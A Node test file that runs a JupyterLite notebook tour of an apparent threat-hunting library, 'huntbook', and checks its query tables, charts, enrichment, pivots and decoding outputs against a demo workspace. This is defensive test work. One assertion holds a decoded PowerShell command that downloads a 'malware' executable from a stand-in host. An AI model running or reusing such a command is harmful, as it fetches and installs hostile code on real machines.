// The Tour in JupyterLite's JavaScript kernel (hosts/jupyterlite/tour.ipynb, built by `jupyter lite build` into
// dist/hosts/jupyterlite/) in headless Chromium: JupyterLab opens the notebook from the site's files, "Run All"
// runs every code cell in the kernel's Web Worker (huntbook imported from files/huntbook/), and each cell finishes
// with an execution count and no error output. Outputs are read from the notebook model (the MIME bundles the
// kernel sent: huntbook.display's text/html tables, image/png pictures, JSON and text) and checked against huntbook
// run in Node on the same demo workspace. Every request — the lab, the kernel's Worker, huntbook, the wasm, the demo
// files — is answered by the loopback server.
//
// The site sets `exposeAppInBrowser` (hosts/jupyterlite/jupyter-lite.json), so the test drives JupyterLab through
// its command registry (`notebook:run-all-cells`) and reads the model as JupyterLab's own UI tests do.
import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import fs from "node:fs";
import path from "node:path";
import { openBrowser, offLoopback, reportHost, screenshot } from "./browser.mjs";
import { root, loadHuntbook } from "../js/helpers.mjs";

const notebook = JSON.parse(fs.readFileSync(path.join(root, "hosts", "jupyterlite", "tour.ipynb"), "utf8"));
const codeIds = notebook.cells.filter((c) => c.cell_type === "code").map((c) => c.id);

let b, page, errors, hb, qp, shown;
const results = [];
const cells = new Map(); // id → the cell's JSON after the run (outputs, execution_count)

before(async () => {
  hb = await loadHuntbook();
  await hb.loadDemo();
  qp = new hb.QueryProvider("LocalData", { queryTime: new hb.QueryTime({ start: "-5d" }) });
  b = await openBrowser();
  ({ page, errors } = await b.newPage());
  // Requests of the kernel's Worker (huntbook's import, the wasm, the demo files) are the page's in Chromium; the
  // context's listener also sees a service worker's.
  page.context().on("request", (r) => b.requests.push(r.url()));
  await page.setViewportSize({ width: 1280, height: 900 });
  await page.goto(`${b.base}/hosts/jupyterlite/lab/index.html?path=tour.ipynb`);
  await page.waitForFunction(() => {
    const panel = window.jupyterapp?.shell?.currentWidget;
    return panel?.content?.model?.cells?.length > 0 && panel.sessionContext?.session?.kernel?.status === "idle";
  }, null, { timeout: 120000, polling: 250 });
  await page.evaluate(() => window.jupyterapp.commands.execute("notebook:run-all-cells"));
  try {
    // Every code cell has run: it has an execution count (or an error), and the kernel is idle again.
    await page.waitForFunction(() => {
      const panel = window.jupyterapp.shell.currentWidget;
      const code = [...panel.content.model.cells].filter((c) => c.type === "code");
      return panel.sessionContext.session.kernel.status === "idle" &&
        code.every((c) => c.executionCount != null || c.toJSON().outputs.some((o) => o.output_type === "error"));
    }, null, { timeout: 300000, polling: 500 });
  } catch (e) {
    errors.push(`the notebook did not finish: ${e.message}`);
  }
  const json = await page.evaluate(() => [...window.jupyterapp.shell.currentWidget.content.model.cells].map((c) => c.toJSON()));
  for (const c of json) cells.set(c.id, c);
  for (const id of codeIds) {
    const c = cells.get(id);
    const error = c?.outputs.find((o) => o.output_type === "error");
    results.push({
      id, ok: c?.execution_count != null && !error,
      error: error ? `${error.ename}: ${error.evalue}` : c?.execution_count == null ? "not run" : undefined,
    });
  }
  // The README's picture: the timelines section.
  await page.evaluate(() => {
    const panel = window.jupyterapp.shell.currentWidget;
    const i = [...panel.content.model.cells].findIndex((c) => c.id === "vis-result");
    panel.content.activeCellIndex = i;
    panel.content.widgets[i].node.scrollIntoView({ block: "start" });
  });
  await page.waitForTimeout(300); // the scroll to paint (a picture only, nothing is asserted on it)
  await screenshot(page, "host-jupyterlite");
  // What JupyterLab rendered for the timeline cell: its output area's <img> elements, once decoded.
  shown = await page.evaluate(async () => {
    const panel = window.jupyterapp.shell.currentWidget;
    const i = [...panel.content.model.cells].findIndex((c) => c.id === "vis-result");
    const imgs = [...panel.content.widgets[i].node.querySelectorAll(".jp-OutputArea-output img")];
    await Promise.all(imgs.map((img) => img.decode()));
    return imgs.map((img) => ({ src: img.src.slice(0, 22), width: img.naturalWidth, height: img.naturalHeight }));
  });
});

after(async () => {
  if (results.length) reportHost("jupyterlite", results);
  await b?.close();
});

/** The MIME bundles a cell shows (display_data and execute_result), in order. */
const bundles = (id) => (cells.get(id)?.outputs ?? []).filter((o) => o.data).map((o) => o.data);
const texts = (id) => bundles(id).map((d) => [].concat(d["text/plain"] ?? []).join("")).join("\n");
const json = (id, i = 0) => bundles(id).filter((d) => d["application/json"] !== undefined)[i]?.["application/json"];
/** The first huntbook HTML table a cell shows: {headers, rows}. */
function table(id, i = 0) {
  const html = bundles(id).filter((d) => d["text/html"])[i]?.["text/html"];
  assert.ok(html, `cell ${id} shows no HTML table`);
  const text = [].concat(html).join("");
  const headers = [...text.matchAll(/<th[^>]*>([^<]*)<\/th>/g)].map((m) => m[1]);
  const body = text.split("<tbody>")[1] ?? "";
  const rows = [...body.matchAll(/<tr>([\s\S]*?)<\/tr>/g)].map((m) => [...m[1].matchAll(/<td[^>]*>([\s\S]*?)<\/td>/g)].map((d) => d[1]));
  return { headers, rows };
}
/** Width and height of a PNG (its IHDR chunk). */
function pngSize(base64) {
  const bytes = Buffer.from(base64, "base64");
  assert.equal(bytes.subarray(1, 4).toString("latin1"), "PNG");
  return { width: bytes.readUInt32BE(16), height: bytes.readUInt32BE(20) };
}
const picture = (id) => {
  const png = bundles(id).find((d) => d["image/png"])?.["image/png"];
  assert.ok(png, `cell ${id} shows no PNG`);
  return pngSize([].concat(png).join(""));
};

test("every code cell of the notebook runs in the JavaScript kernel and finishes without an error", () => {
  assert.ok(codeIds.length >= 70, `${codeIds.length} code cells`);
  assert.equal(results.length, codeIds.length);
  assert.deepEqual(results.filter((r) => !r.ok), []);
  assert.deepEqual(errors, []);
});

test("nothing is requested off the loopback server; huntbook and its wasm come from the site's files/", () => {
  assert.deepEqual(offLoopback(b.requests), []);
  const paths = b.requests.map((u) => new URL(u).pathname);
  for (const p of ["/hosts/jupyterlite/files/huntbook/index.js", "/hosts/jupyterlite/files/huntbook/huntbook_wasm_bg.wasm",
    "/hosts/jupyterlite/files/huntbook/huntbook_demo.la.json.gz", "/hosts/jupyterlite/files/await-cells.js"]) {
    assert.ok(paths.includes(p), `${p} was not requested`);
  }
});

test("setup, tables, schema and the queries show the demo workspace's values", async () => {
  assert.match(texts("init"), /^huntbook \d+\.\d+\.\d+ loaded$/);
  assert.deepEqual(json("tables"), await qp.schemaTables());
  assert.ok(json("tables").includes("SigninLogs"));
  const schema = table("schema");
  assert.deepEqual(schema.headers, ["name", "type"]);
  assert.deepEqual(schema.rows.map((r) => r[0]), (await qp.schema("SigninLogs")).map((c) => c.name));
  assert.deepEqual(json("query-list"), qp.listQueries("signins"));
  assert.ok(texts("query-help").includes("list_all_signins_geo"));
  const geo = table("signins-geo");
  assert.deepEqual(geo.headers, ["TimeGenerated", "UserPrincipalName", "IPAddress", "Result", "Latitude", "Longitude", "AppDisplayName"]);
  assert.equal(geo.rows.length, 10);
  const alerts = table("alerts");
  assert.deepEqual(alerts.headers, ["AlertName", "NumAlerts"]);
  const expected = (await qp.SecurityAlert.list_alerts({ add_query_items: "| summarize NumAlerts=count() by AlertName" })).sort("NumAlerts", { descending: true });
  assert.deepEqual(alerts.rows.map((r) => r[0]), expected.toRows().map((r) => r.AlertName));
  assert.match(texts("print-kql"), /SecurityEvent[\s\S]*WKS-FIN-07/);
  const office = table("kql");
  assert.deepEqual(office.headers, ["TimeGenerated", "UserId", "Operation", "ClientIP", "OfficeWorkload"]);
  assert.ok(office.rows.length > 0 && office.rows.length <= 5, `${office.rows.length} rows`);
  const counts = table("ipcounts");
  assert.deepEqual(counts.headers, ["IPAddress", "count"]);
  const top = (await qp.execQuery("SigninLogs | sort by TimeGenerated desc")).valueCounts("IPAddress").row(0);
  assert.deepEqual(counts.rows[0], [top.IPAddress, String(top.count)]);
});

test("charts and timelines are PNG pictures of the size they say, as wide as asked for", () => {
  const sizes = {};
  for (const id of ["vis-bar", "vis-pie", "vis-line", "vis-hist", "vis-timeline", "vis-result", "vis-app", "vis-ip", "vis-values",
    "vis-duration", "pivot-whois-timeline", "pivot-timeline"]) {
    const { width, height } = (sizes[id] = picture(id));
    const said = texts(id).match(/picture ".*" (\d+)×(\d+) \(/);
    assert.ok(said, `${id}: ${texts(id)}`);
    assert.deepEqual([width, height], [Number(said[1]), Number(said[2])], id);
    assert.ok(width >= 300 && height >= 100, `${id}: ${width}×${height}`);
  }
  assert.match(texts("vis-result"), /timeline picture "Timeline: Sign-ins by result"/);
  // the page shows that PNG as an <img> of the same size
  assert.deepEqual(shown, [{ src: "data:image/png;base64,", ...sizes["vis-result"] }]);
  assert.match(texts("vis-bar"), /picture ".*Sign-ins per IP address"/);
  // the plot is `width` wide (default 900); axis labels and a legend beside it only add to the picture
  assert.ok(sizes["vis-timeline"].width >= 900 && sizes["vis-app"].width >= 800 && sizes["vis-ip"].width >= 760);
  // a row per group: the sign-ins by IP address (one row per address) are taller than the ungrouped timeline
  assert.ok(sizes["vis-ip"].height > sizes["vis-timeline"].height);
});

test("enrichment answers from the demo sources", async () => {
  assert.ok(json("ti-setup").length > 0);
  const one = table("ti-one");
  assert.deepEqual(one.headers, ["Ioc", "IocType", "Provider", "Result", "Severity", "Details", "Status"]);
  assert.equal(one.rows[0][0], "185.220.101.45");
  const whois = table("whois");
  for (const h of ["IPAddress", "Failures", "asn", "asn_description"]) assert.ok(whois.headers.includes(h), `whois: no ${h}`);
  assert.equal(whois.rows.length, 5);
  assert.equal(texts("iptype"), hb.ipType("24.16.133.227"));
  assert.deepEqual(json("dns-components"), JSON.parse(JSON.stringify(hb.dnsComponents("cdn-updates.northwind-sync.xyz"))));
  assert.ok(table("geoloc").headers.includes("CountryCode"));
});

test("decoding shows the decoded command, and the report's IoCs are extracted", () => {
  assert.ok(texts("decode").includes("Invoke-WebRequest https://contoso.com/malware -OutFile C:\\malware.exe"), texts("decode"));
  assert.match(texts("unpack-table"), /^\d+ command lines with base64, \d+ decoded fragments/);
  const urls = json("report-urls");
  assert.ok(urls.length >= 3, JSON.stringify(urls));
  for (const u of urls) assert.match(u, /^(https?|ftp):\/\/[^\s[\]]+$/, u); // refanged
  const xml = fs.readFileSync(path.join(root, "site", "data", "threat-report.xml"), "utf8");
  const text = xml.replace(/<!--[\s\S]*?-->|<\?[\s\S]*?\?>/g, "").split(/<[^>]*>/).filter((t) => t.trim())
    .map((t) => t.replace(/&(lt|gt|quot|apos|amp);/g, (e) => ({ "&lt;": "<", "&gt;": ">", "&quot;": '"', "&apos;": "'", "&amp;": "&" })[e])).join("\n");
  assert.deepEqual(urls, hb.extractIocs(text, { ioc_types: ["url"] }).url);
  assert.deepEqual(table("report-iocs").headers, ["IoCType", "Observable", "Refanged"]);
});

test("pivots: functions, whois joined onto the sign-ins, and pivotAll on the C2 alert", async () => {
  const pivot = new hb.Pivot({ queryProvider: qp });
  hb.useDemoEnrichment(true);
  assert.equal(texts("pivot-setup").split("\n")[0], `${pivot.functions().length} pivot functions`);
  assert.deepEqual(json("pivot-setup"), pivot.counts());
  assert.equal(table("pivot-browser").rows.length, pivot.functions("IpAddress").length);
  const joined = table("pivot-whois-join");
  for (const h of ["UserPrincipalName", "IPAddress", "asn", "asn_description"]) assert.ok(joined.headers.includes(h), `join: no ${h}`);
  const m = texts("pivot-whois-join").match(/^(\d+) sign-ins → (\d+) rows after the left join/);
  assert.ok(m, texts("pivot-whois-join"));
  assert.equal(m[1], m[2]); // a left join on distinct addresses keeps every row once
  assert.ok(table("pivot-whois").headers.includes("asn_description"));
  assert.match(texts("pivot-all"), /Complete: 63 pivots on 6 entities\./);
  assert.ok(table("pivot-all").rows.length === 63);
  assert.match(texts("pivot-timeline"), /^\d+ events from \d+ functions/);
});

test("the pandas appendix: every DataFrame verb's value", async () => {
  const signins = await qp.execQuery("SigninLogs | sort by TimeGenerated desc");
  assert.deepEqual(json("df-shape"), signins.shape);
  assert.deepEqual(json("df-columns"), signins.columns);
  assert.equal(table("df-head").rows.length, 3);
  assert.deepEqual(table("df-select").headers, ["TimeGenerated", "UserPrincipalName", "IPAddress", "ResultType"]);
  assert.deepEqual(table("df-isin").rows.map((r) => r[0]).sort(), ["185.220.101.45", "45.153.160.2"]);
  assert.deepEqual(table("df-groupby").rows.length, signins.groupBy("AppDisplayName").count().numRows);
  assert.deepEqual(table("df-rename").headers, ["Account", "IPAddress"]);
  assert.deepEqual(table("df-withcolumn").rows.map((r) => r[2]), ["tour", "tour", "tour"]);
  assert.deepEqual(table("df-addtime").headers, ["TimeGenerated", "IPAddress", "OneHourLater"]);
  assert.deepEqual(table("df-valuecounts").rows.map((r) => r[0]), signins.valueCounts("ResultType").toRows().map((r) => String(r.ResultType)));
  assert.deepEqual(table("df-dynamicpath").headers, ["IPAddress", "LocationDetails", "Latitude"]);
  assert.ok(json("df-row").UserPrincipalName);
  assert.ok(json("df-dtypes"));
});
